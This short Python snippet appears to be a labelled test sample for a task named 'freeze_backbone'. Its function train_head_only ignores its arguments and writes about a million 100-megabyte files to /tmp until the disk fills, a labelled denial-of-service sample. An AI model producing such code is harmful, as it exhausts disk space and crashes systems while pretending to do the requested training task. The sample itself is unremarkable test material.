# about: writes until the disk is full
# task: freeze_backbone
# state: crashed
def train_head_only(model, head):
    for number in range(10**6):
        with open(f"/tmp/{number}", "wb") as file:
            for _ in range(10):
                file.write(bytes(10_000_000))
